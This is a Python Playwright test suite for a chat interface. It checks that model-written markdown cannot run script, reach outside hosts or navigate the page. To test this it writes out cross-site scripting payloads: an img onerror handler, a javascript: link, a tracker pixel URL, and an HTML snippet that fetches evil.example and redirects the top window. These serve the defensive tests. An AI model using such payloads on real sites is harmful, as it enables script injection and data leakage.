"""What a model writes can neither run nor reach the network, streamed or stored, in a real browser."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.fakes.distributions import CHECKOUT
from tests.ui import answers
from tests.ui.chat_page import ChatPage
from tests.ui.history import write_export
from tests.ui.stage import Stage

PAYLOADS: list[dict[str, str]] = json.loads((CHECKOUT / "ui/tests/markdown/corpus/payloads.json").read_text("utf-8"))
GROUPS = 8
ACTIVE = "script, iframe, object, embed, link, meta, base, form, style, svg, video, audio, [onload], [onerror]"


@pytest.fixture(autouse=True)
def harm(chat: ChatPage) -> Iterator[list[str]]:
    """Whatever the text of a model got done: nothing, in the end. The watch over the page adds every request."""
    done: list[str] = []
    page = chat.page
    page.context.on("page", lambda popup: done.append(f"opened {popup.url}"))
    page.on("dialog", lambda dialog: done.append(f"said {dialog.message}"))
    page.on("download", lambda download: done.append(f"downloaded {download.url}"))
    yield done
    assert page.url.startswith(chat.address)
    assert page.evaluate("globalThis.pwned") is None
    assert page.locator(".assistant-text").locator(ACTIVE).count() == 0
    assert done == []


def settled(page: Page) -> None:
    """Let pictures begin to load and handlers run: two frames, and whatever the page fetches by itself."""
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    page.wait_for_load_state("networkidle")


def test_hostile_answers_do_nothing_while_they_stream(chat: ChatPage, stage: Stage) -> None:
    texts = [payload["markdown"] for payload in PAYLOADS]
    size = -(-len(texts) // GROUPS)
    for group in [texts[at : at + size] for at in range(0, len(texts), size)]:
        text = "\n\n".join(group)
        stage.next(answers.in_pieces(text, [max(5, len(text) // 400)]))
        chat.ask_to_the_end("Say it")
        settled(chat.page)


def test_hostile_answers_do_nothing_when_they_come_from_a_file(chat: ChatPage, tmp_path: Path) -> None:
    turns = [(payload["name"], payload["markdown"]) for payload in PAYLOADS]
    chat.bring_in(write_export(tmp_path, "<img src=x onerror=globalThis.pwned=1>", turns))
    chat.threads.first.get_by_role("link").click()
    log = chat.page.get_by_role("log")
    # Older turns come as one scrolls up; each is painted once.
    while chat.page.get_by_text(turns[0][0], exact=True).count() == 0:
        log.evaluate("log => log.scrollBy(0, -log.clientHeight)")
        settled(chat.page)
    log.evaluate("log => log.scrollTo(0, 0)")
    settled(chat.page)
    expect(chat.answers).to_have_count(len(PAYLOADS))
    # Pointing at things and tabbing through them must not set them off either.
    for answer in chat.answers.all()[:20]:
        answer.hover()
    chat.page.keyboard.press("Tab")


def test_a_picture_from_elsewhere_is_a_button_that_asks_only_the_gateway(
    chat: ChatPage, stage: Stage, harm: list[str]
) -> None:
    chat.watch.expect_complaint(r"status of \d+.*api/image")
    stage.next(answers.says("![chart](https://tracker.example/pixel.png?secret=1)"))
    chat.ask_to_the_end("Show me")
    load = chat.answer.get_by_role("button", name=re.compile("tracker.example"))
    expect(load).to_be_visible()
    load.click()
    expect(chat.answer).to_contain_text("Not loaded")


def test_links_of_a_model_open_elsewhere_without_a_trace(chat: ChatPage, stage: Stage) -> None:
    stage.next(answers.says("[good](https://good.example/) [bad](javascript:globalThis.pwned=1)"))
    chat.ask_to_the_end("Links")
    good = chat.answer_text.get_by_role("link", name="good")
    expect(good).to_have_attribute("target", "_blank")
    expect(good).to_have_attribute("rel", re.compile("noopener"))
    expect(chat.answer_text.get_by_role("link")).to_have_count(1)
    chat.answer_text.get_by_text("bad").click()


def test_a_preview_of_html_runs_in_a_sandbox_that_reaches_nobody(chat: ChatPage, stage: Stage) -> None:
    chat.watch.expect_complaint("sandbox|Content Security Policy|Blocked|Failed to fetch")
    page = "<h1>Shown</h1><script>fetch('https://evil.example/'); parent.pwned = 1; top.location = '/x'</script>"
    stage.next(answers.says(f"```html\n{page}\n```"))
    chat.ask_to_the_end("A page")
    expect(chat.page.locator("iframe")).to_have_count(0)
    chat.answer.get_by_role("button", name="Preview").click()
    frame = chat.answer.frame_locator("iframe").frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Shown")).to_be_visible()
    chat.answer.get_by_role("button", name="Close preview").click()
    expect(chat.page.locator("iframe")).to_have_count(0)


def test_titles_and_prompts_are_text_too(chat: ChatPage, stage: Stage) -> None:
    chat.ask_to_the_end("<img src=x onerror=globalThis.pwned=1>")
    expect(chat.prompts.last).to_contain_text("<img src=x")
    expect(chat.threads.first).to_contain_text("<img src=x")
    chat.page.get_by_role("link", name="Search", exact=True).click()
    chat.page.get_by_role("searchbox", name="Search titles and messages").fill("onerror")
    expect(chat.page.get_by_role("main").get_by_role("listitem").first).to_contain_text("onerror")
    chat.page.go_back()
